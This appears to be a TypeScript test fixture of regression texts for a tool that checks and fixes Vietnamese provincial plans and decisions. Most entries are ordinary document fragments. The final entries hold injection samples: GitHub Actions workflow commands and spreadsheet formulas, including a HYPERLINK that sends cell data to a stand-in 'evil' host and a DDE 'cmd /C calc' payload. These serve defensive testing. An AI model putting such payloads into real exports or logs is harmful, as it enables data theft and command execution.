/**
 * Texts in which safe fixes once changed words, by their topic. Most are pieces of a plan, some a single line: the tests fix each
 * as it is and as the body of a plan.
 */
export const fixRegressions: Readonly<Record<string, readonly string[]>> = {
  'head of a plan of a province': [
    'ỦY BAN NHÂN DÂN\nTỈNH LÂM ĐỒNG\n-------\nCỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc\n---------------\nSố: 12/KH-UBND\nLâm Đồng, ngày 05 tháng 12 năm 2025\n\nKẾ HOẠCH\nCải cách hành chính năm 2026\n\n<<< the input >>>\n\nTrên đây là Kế hoạch của Ủy ban nhân dân tỉnh./.\n\nNơi nhận:\n- Các sở, ban, ngành tỉnh;\n- Lưu: VT.\n\nTM. ỦY BAN NHÂN DÂN\nKT. CHỦ TỊCH\nPHÓ CHỦ TỊCH\nNguyễn Văn A',
  ],
  'Motto on two lines': ['CỘNG HÒA XÃ HỘI', 'CHỦ NGHĨA VIỆT NAM', 'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM'],
  'A legal basis that is wrapped at a line end': [
    'Căn cứ Nghị quyết số 57-NQ/TW ngày 22/12/2024 của Bộ\nChính trị về đột phá phát triển khoa học, công nghệ;\n\nỦy ban nhân dân tỉnh ban hành Kế hoạch như sau:',
    'Chính trị về …',
  ],
  'V/V as the subject of a plan': ['V/V hỗ trợ nhu yếu phẩm cho Nhân dân vùng lũ', 'V. V hỗ trợ …'],
  'Decision and plan in one file; recipients and signature on one lin': [
    '(head as above, but Số: 412/QĐ-UBND, QUYẾT ĐỊNH / Về việc ban hành Kế hoạch kiểm kê hồ sơ lưu trữ, Điều 1, Điều 2 …./.)\nNơi nhận: - Như Điều 2; - Lưu: VT.\n\nCHỦ TỊCH Nguyễn Văn A\n\nKẾ HOẠCH\nKiểm kê hồ sơ lưu trữ\n(Kèm theo Quyết định số 412/QĐ-UBND ngày 05 tháng 12 năm 2025 của Chủ tịch Ủy ban nhân dân tỉnh)\n\nI. NHIỆM VỤ\n1. Lập danh mục hồ sơ.\na) Cơ quan chủ trì: Sở Nội vụ;\nb) Thời gian hoàn thành: Quý I/2026.',
    'I. NHIỆM VỤ;',
    '1. Lập danh mục hồ sơ;',
    'Nơi nhận: …\tCHỦ TỊCH Nguyễn Văn A',
  ],
  'Cells joined as if torn paragraphs': ['356.104.944\n\na\n\nQuan trắc nền', '356.104.944 a'],
  '| Số: …/QĐ-UBND': [
    '| Số: …/QĐ-UBND',
    'ỦY BAN NHÂN DÂN TỈNH LÂM ĐỒNG -------\n\nCỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM Độc lập - Tự do - Hạnh phúc ---------------\n\n| Số: 412/QĐ-UBND\n\nLâm Đồng, ngày 21 tháng 11 năm 2025\n\nQUYẾT ĐỊNH\n…',
  ],
  'Date of an attached plan': [
    'KẾ HOẠCH\nKiểm kê hồ sơ lưu trữ năm 2026\n(Kèm theo Quyết định số 412/QĐ-UBND ngày 21 tháng 11 năm 2025 của Chủ tịch Ủy ban nhân dân tỉnh)\nI. NHIỆM VỤ\n1. Lập danh mục.\na) Cơ quan chủ trì: Sở Nội vụ;\nb) Thời gian hoàn thành: Trước ngày 15/11/2025.',
  ],
  "The plan's own number in its annex": [
    'KẾ HOẠCH\nChuyển đổi số cho hợp tác xã\n\nThực hiện Kế hoạch số 283/KH-UBND ngày 24/9/2025 của Ủy ban nhân dân tỉnh.\nI. NHIỆM VỤ\n1. Lập danh mục (Phụ lục kèm theo).\n\nPHỤ LỤC\n(Kèm theo Kế hoạch số 617/KH-UBND ngày 01/12/2025 của Ủy ban nhân dân tỉnh)',
    '(Kèm theo Kế hoạch số … ngày …)',
  ],
  'Law with number, judged by its name': ['Căn cứ Luật Điện lực số 61/2024/QH15 ngày 30/11/2024;'],
  'A "law" inside a title in capitals': [
    'NÂNG CAO NĂNG LỰC XÂY DỰNG PHÁP LUẬT TRÊN ĐỊA BÀN TỈNH GIAI ĐOẠN 2026 - 2030',
  ],
  'Same number, same day and month, other year': [
    'I. NHIỆM VỤ\n1. Thực hiện Quyết định số 150/QĐ-SNV ngày 06/3/2025 của Giám đốc Sở Nội vụ tỉnh Lâm Đồng về việc kiểm tra.\n2. Đối tượng theo khoản 1 Điều 2 Quyết định số 150/QĐ-SNV ngày 06/3/2024 của Giám đốc Sở Nội vụ.',
  ],
  'One slip, findings at the innocent place': [
    'I. NHIỆM VỤ\n1. Thực hiện Nghị quyết số 163/2024/QH15 ngày 27/11/2025 của Quốc hội về chương trình mục tiêu quốc gia phòng, chống ma túy.\n2. Theo Nghị quyết số 163/2024/QH15 ngày 27/11/2024 của Quốc hội.',
  ],
  'Dates shared by several numbers': [
    'Căn cứ Công điện số 223/CĐ-TTg ngày 20/11/2025 của Thủ tướng Chính phủ về tập trung ứng phó lũ; Các Công điện: số 07/CĐ-UBND ngày 17/11/2025, số 08/CĐ-UBND và số 09/CĐ-UBND ngày 19/11/2025; số 10/CĐ-UBND ngày 20/11/2025 của UBND tỉnh về khắc phục hậu quả lũ lụt.',
    'số A và số B ngày D',
  ],
  'A number with a digit group behind the code': [
    '1. Theo Văn bản số 93/CT-05 ngày 18/6/2025 của Công ty cổ phần Hòa Bình.',
  ],
  'Wrong code of the Prime Minister': [
    '1. Thực hiện Quyết định số 866/QĐ-Tg ngày 18/7/2023 của Thủ tướng Chính phủ phê duyệt quy hoạch.',
    '78/2021/NĐ -CP',
  ],
  'A misspelt issuer inside a citation': [
    '1. Thực hiện Quyết định số 1750/QĐ-TTg ngày 30/12/2023 của Thủ tướng Chinh phủ về việc sơ kết.',
  ],
  'TAB tables: the next cell is taken for a longer name': [
    'I. NHIỆM VỤ\nTT\tNhiệm vụ\tCơ quan chủ trì\tCơ quan phối hợp\tThời gian hoàn thành\n1\tNâng cấp mạng\tSở Tài nguyên và Môi trường\tCác sở, ban, ngành\tQuý II/2026\n2\tMở lớp tập huấn\tSở Nội vụ\tSở Thông tin và Truyền thông\tQuý II/2026',
  ],
  'Agencies that are gone, in sentences': [
    'I. NHIỆM VỤ\n1. Phối hợp với Sở Thông tin và Truyền thông kiểm tra trước ngày 30/6/2026.\n2. Sở Lao động - Thương binh và Xã hội chủ trì, phối hợp với Sở Kế hoạch và Đầu tư tổ chức hội chợ.',
    '1. Sở Nội vụ',
    '- Phối hợp với Sở Giao thông vận tải theo dõi.',
    'Nội dung: Phối hợp với Sở Tài nguyên và Môi trường rà soát các mỏ.',
  ],
  'Broadcasting in Thành phố Hồ Chí Minh': ['a) Cơ quan chủ trì: Đài Phát thanh và Truyền hình Thành phố;'],
  'A name with a word left out': [
    '3. Sở Văn hóa, Thể và Du lịch báo cáo.',
    'Cơ quan chủ trì: Hội Liên hiệp nữ tỉnh.',
  ],
  'Real-word slips (the largest kind of miss)': [
    'I. NHIỆM VỤ\n1. Rà soát thu tục hành chính; nâng cao vai trò lãnh đao; thực hiện nghi quyết của Hội đồng nhân dân.\n2. Hỗ trợ hộ nghéo; bảo đảm an toan giao thông; công tác quan lý nhà nước được triển khái đồng bô.\n3. Giám sat việc đào tao; vân động người dân; tổng kêt cuối năm; đăng trên cổng thông tin diện tử.',
    'cam kết tại COP',
  ],
  'No word at all': ['1. Tthực hiện theo quy định. 2. Lập Websise riêng.'],
  'Letters of a broken font conversion': ['1. Hằng kǶ sơ kết; đội ngǜ cán bộ cơ sở.'],
  'A loan word': ['5. Bệnh truyền qua vectơ.'],
  "số that ends a law's name before số 71/…": [
    'Căn cứ Luật Công nghiệp công nghệ số số 71/2025/QH15 ngày 14/6/2025.',
  ],
  "A department's name before its own verb": ['1. Phòng Kế hoạch - Tổng hợp tổng hợp, báo cáo Lãnh đạo Sở.'],
  'The same words with another capital': ['1. Theo đơn giá Đơn giá quan trắc.'],
  'Money, measured quantities, software, taxes': [
    '2. Kim ngạch đạt 400 triệu USD; tổng mức đầu tư 15 tỷ VNĐ.',
    '8. Quan trắc pH, DO, COD, TSS; phần mềm ERP, MES, SCADA; thuế TTĐB.',
  ],
  'Names of firms': ['4. Công ty cổ phần Khoáng sản VPG và Hợp tác xã VLXD Bó Lá tham gia.'],
  'Explained behind a slash': ['3. Xây dựng khu thương mại tự do (Free Trade Zone / FTZ) tại cảng.'],
  'A bracket that explains nothing silences the rule': [
    'I. NHIỆM VỤ\n1. Kiểm tra giấy phép VLNXD; hồ sơ VLNXD tại kho.\n2. Lập kế hoạch ứng phó sự cố hóa chất (VLNXD).',
    'hợp tác công tư (PPP)',
  ],
  'The long form of an alias swallows uses': [
    'Thực hiện Nghị định số 106/2025/NĐ-CP ngày 15/5/2025 của Chính phủ quy định xử phạt trong lĩnh vực KSTTNB (viết tắt là Nghị định số 106/2025/NĐ-CP), Sở ban hành Kế hoạch như sau:\nI. MỤC ĐÍCH\n1. Nâng cao kiểm soát thanh toán nội bộ (KSTTNB).',
  ],
  Recipients: ['- VPUB: CPV, các PCVP;'],
  'Deadline for all from the outline of a report in an annex': [
    'I. NHIỆM VỤ TRỌNG TÂM\n1. Phát triển cụm công nghiệp\n- Rà soát quy hoạch cụm.\nĐơn vị chủ trì: Phòng Quản lý Công nghiệp; Đơn vị phối hợp: Phòng Quản lý Năng lượng.\n…\nPhụ lục số 01:\nĐỀ CƯƠNG BÁO CÁO\nI. Phương hướng\n2. Lộ trình thực hiện: Các mốc thời gian cụ thể cho giai đoạn tiếp theo.',
  ],
  'Theo dõi … is read as a time': [
    'I. NHIỆM VỤ\n1. Phát triển năng lượng\n- Theo dõi tiến độ các dự án.\n- Rà soát thủ tục.\nĐơn vị chủ trì: Phòng Năng lượng; Đơn vị phối hợp: Văn phòng Sở.',
  ],
  'Lead and cooperation in one value are not split in the task': [
    '- Cơ quan thực hiện: Sở Nội vụ chủ trì, phối hợp với Sở Y tế.',
  ],
  'Tasks with only a time under an agency': [
    'I. NHIỆM VỤ CỤ THỂ\n1. Sở Tài chính\n- Hướng dẫn biểu mẫu kiểm kê.\nThời gian hoàn thành: Tháng 12/2025.\n2. Ủy ban nhân dân các xã, phường\n- Thành lập Tổ kiểm kê.\nThời gian hoàn thành: Trước ngày 15/01/2026.',
  ],
  'Time in the content of the task': [
    'a) Hoạt động 1\n- Nội dung: Triển khai Tháng hành động (từ ngày 15/01 đến ngày 15/02/2026).\n- Cơ quan thực hiện: Sở Nội vụ chủ trì, phối hợp với Sở Y tế.',
  ],
  'Cells one per line': [
    'I. NHIỆM VỤ\nSTT\nTên nhiệm vụ\nCơ quan chủ trì\nThời gian hoàn thành\n1\nMở lớp tập huấn\nSở Y tế\nQuý II/2026',
  ],
  'Debris of cells becomes tasks': [
    'I. NHIỆM VỤ\n| 3\n- Lúa, ngô, khoai\n- Cây ăn quả\n| 12\n- Số lớp học\n| 20.330',
  ],
  'Tasks that begin with “Tổng …” vanish': [
    'I. NHIỆM VỤ\nSTT\tNhiệm vụ\tCơ quan chủ trì\tThời gian hoàn thành\n1\tTổng hợp báo cáo\tSở Nội vụ\tQuý I/2026\n2\tTổng kết năm\tSở Tài chính\tQuý IV/2026\n3\tMở lớp\tSở Y tế\tQuý II/2026',
  ],
  'A wrapped line that begins with a number or letter': [
    '1. Ưu tiên các địa bàn cấp độ\n1. Cấp ngay lương khô, nước uống cho người dân.',
    'a) … phốt phát (PO4-',
    'P), độ kiềm, …;',
  ],
  'Number missing its point or space': ['1.2 Tổng hợp báo cáo.', 'I.MỤC ĐÍCH, YÊU CẦU', 'a/. Tên cơ quan;'],
  "The issuer's own name holds a decision's number": ['ĐOÀN KIỂM TRA THEO', 'SỐ 85/QĐ-SNV', 'Số: 03/KH-ĐKT'],
  'Signature and placeholder': ['T/M. ỦY BAN NHÂN DÂN'],
  'Recipients on one line': ['Nơi nhận: - Chủ tịch, các PCT UBND tỉnh, - CVP, các PCVP; - Lưu VT, TH.'],
  "Weekday that is not that day's": ['b) Thời gian: Thứ Hai, ngày 07/01/2026.'],
  'Slips with no rule': [
    'I. NHIỆM VỤ\n1. Nâng cao nhận thức cho cán bộ tại các (KCN) trên địa bàn.\n2. Các đơn vị thực hiện. tổng hợp báo cáo về Sở Nội vụ..\n3. Trong giai đoạn 2026 - 2030, Đảm bảo hạ tầng; Kịp thời tháo gỡ.\n4. Kế hoạch ngày10 /3/2026 của Đoàn; ( nước uống, âm thanh).\n5. Ông. Nguyễn Văn B phụ trách; Bộ Công An, sở Xây dựng phối hợp; quí IV và quý II; theo qui định.',
  ],
  'One finding per mark in Markdown': [
    '## I. NHIỆM VỤ\n### 1. Truyền thông\n**Chủ trì:** **Sở Nội vụ**\n| **Việc** | **Đơn vị** |',
  ],
  '--fix writes a full stop into the middle of a căn cứ': [
    'Căn cứ Luật Thư viện ngày 21 tháng 11 năm 2019;\nCăn cứ Chỉ thị số 03/CT-UBND ngày 02/01/2026 của Chủ tịch UBND tỉnh Lâm\nĐồng về phát triển văn hóa đọc trong nhà trường và cộng đồng năm 2026.\nỦy ban nhân dân xã ban hành Kế hoạch tổ chức ngày hội đọc sách như sau:',
  ],
  'Table with a cell on each line is not seen, and nothing says so': [
    'PHỤ LỤC\nPHÂN CÔNG NHIỆM VỤ\nSTT\nNhiệm vụ\nCơ quan chủ trì\nCơ quan phối hợp\nThời gian hoàn thành\nSản phẩm\n1\nChuẩn bị hội trường\nVăn phòng Ủy ban nhân dân xã\nCác thôn\nTrước ngày 10/4/2026\nHội trường',
  ],
  'Work given by agency in TỔ CHỨC THỰC HIỆN is no task': [
    'I. TỔ CHỨC THỰC HIỆN\n1. Phòng Văn hóa - Xã hội\nChủ trì xây dựng chương trình ngày hội; hoàn thành trước ngày 31/3/2026.\n2. Văn phòng Hội đồng nhân dân và Ủy ban nhân dân\nChuẩn bị hội trường, âm thanh trước ngày 18/4/2026.',
  ],
  'Letters of old fonts from PDF': ['Khuyến khích ngƣời dân và các trƣờng học mƣợn sách.', 'TRƢỞNG PHÕNG'],
  'Syllable torn by PDF extraction': [
    'Người dân được hướng dẫ n cách mượn sách; trẻ em có quy ch ế riêng, thủ thư trực gấ p đôi giờ.',
  ],
  'Blank forms in an annex': ['Mẫu số 01/HT', '1. Thành phần cuộc họp gồm:', 'Mẫu số 02/HT'],
  'Rules of a meeting taken for tasks': [
    '3. Quy định về thành phần và số lượng người dự',
    'Mỗi thôn cử từ 05 đến 10 người…',
  ],
  'môn môn': ['Nâng cao chất lượng sinh hoạt chuyên môn môn Ngữ văn…'],
  'Slips that are missed': [
    'Văn phòng … avf các thôn',
    'Đồng chí Phó chỉ tịch',
    'Tuyên truyền, phố biến nội quy',
    'đại biểu HDDND xã',
  ],
  'Legacy encoding': ['Céng hßa x· héi chñ nghÜa ViÖt Nam', 'COÄNG HOØA XAÕ HOÄI…', 'Nguyeãn Vaên'],
  'Number broken after the hyphen': ['…tại Công văn số 215/SVHTTDL-\nQLVHGĐ ngày 03/01/2026 của Sở Văn hóa…'],
  '“Bản điện tử:” in nơi nhận': ['Bản điện tử:', '- Ủy ban nhân dân tỉnh (báo cáo);'],
  'Preamble swallowed by a subject of several lines': [
    'Thực hiện Kế hoạch số 05/KH-UBND ngày … của Ủy ban\nnhân dân tỉnh …,',
  ],
  'Date of the plan that nobody wrote': ['Minh Tân, ngày     tháng 3 năm 2026'],
  'Invisible characters': ['khí\u00adch'],
  'Clock times in a task table': ['Thời gian (Năm 2026)', 'Từ 19 giờ 30 phút - 20 giờ ngày 13 tháng 3'],
  'Weekday against date': ['thứ Năm ngày 22/4/2026'],
  'lines as they are typed': [
    'II. NỘI DUNG',
    'II. NỘI DUNG NHIỆM VỤ',
    'II. NỘI DUNG 1. Tổ chức quán triệt, tuyên truyền',
    'III. PHÂN CÔNG NHIỆM VỤ',
    'III. PHÂN CÔNG 1. Tổ chức quán triệt, tuyên truyền',
    'BẢNG PHÂN CÔNG NHIỆM VỤ',
    'BẢNG PHÂN CÔNG 1. Tổ chức quán triệt…',
    'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT 1. Tổ chức quán triệt…',
    '1. Sở Nội 1. Tổ chức quán triệt, tuyên truyền',
    'Thực hiện nhiệm vụ',
    'Thực hiện 1. Tổ chức quán triệt…',
    'a) Quán triệt mục tiêu, nhiệm vụ',
    'a) Quán triệt mục tiêu, 1. Tổ chức quán triệt…',
    'thực hiện theo phân công',
    'thực hiện theo 1. Sở Nội vụ',
    'bảng phân công',
    'bảng 1. Sở Nội vụ',
    'theo quy định của pháp luật',
    'theo quy định của pháp Căn cứ Luật Tổ chức chính quyền địa phương…',
    'các mục tiêu của kế hoạch',
    'các mục tiêu của ỦY BAN NHÂN DÂN … ',
    'Trên đây là Kế hoạch',
    'Trên đây là ỦY BAN NHÂN DÂN …',
    'PHÓ CHỦ TỊCH',
    'TM. ỦY BAN NHÂN DÂN / KT. CHỦ TỊCH / PHÓ CHỦ TỊCH / / Họ và tên',
    'ký phó chủ tịch',
    'KT. CHỦ TỊCH',
    'III. KINH PHÍ THỰC HIỆN',
    'II. NHIỆM VỤ, GIẢI PHÁP CHỦ YẾU',
    'Sở Tài chính',
    'Ủy ban nhân dân các xã, phường, đặc khu',
  ],
  "Left-overs of the project's own template pass strict + final": [
    'Số: /KH-UBND',
    'ngày tháng 11',
    'TỈNH QUẢNG TRỊ',
    'Chuyển đổi số … năm 2027',
    'ban hành Kế hoạch phòng chống thiên tai năm 2026',
    'cải cách hành chính',
  ],
  'Word paste': ['•\tNâng cao…;', '–\tChủ trì: Sở Nội vụ', 'o\tThành phần', '- Lưu: VT, ĐTS. *lin*'],
  'Premature findings while typing': [
    'chưa rõ thời gian',
    'a) Cơ quan chủ trì:',
    'chưa có nội dung: điền vào, hoặc bỏ trường này',
    'Thiếu nơi nhận',
    'Thiếu quyền hạn, chức vụ…',
    'Dòng cuối của nơi nhận là “- Lưu…”',
    'Căn cứ luat giao dich',
  ],
  'Search without marks in Ctrl+T': [
    'to chuc thuc hien',
    '6. Bảo đảm an toàn thông tin…',
    '1. Kinh phí thực hiện…',
    'TỔ CHỨC THỰC HIỆN',
    'tổ chức thực hiện',
  ],
  'Language mixed': ['(… ; thay bởi NĐ 45/2025/NĐ-CP)'],
  'Completion at places where a drafter expects it': [
    'Căn cứ văn bản',
    '- Sản phẩm: ….',
    'KẾ HOẠCH, CỘNG HÒA…, Độc lập…, I., …',
  ],
  'Workflow command out of a plan': [
    'KẾ HOẠCH\nVề việc nâng cao chất lượng\n\nI. NHIỆM VỤ\n1. Tổ chức hội nghị sơ kết công tác\n::stop-commands::tok123 hội hội\n::add-mask::lỗi hội hội\n##[error]giả mạo hội hội',
  ],
  'CSV formula': [
    'KẾ HOẠCH\nVề việc\n\nI. NHIỆM VỤ\n1. =HYPERLINK("http://evil/?"&A1,"bấm")\n- Cơ quan chủ trì: =cmd|\' /C calc\'!A0\n- Phối hợp: @SUM(1+1)\n- Thời gian thực hiện: +84\n- Sản phẩm: -1+1|cmd',
  ],
};
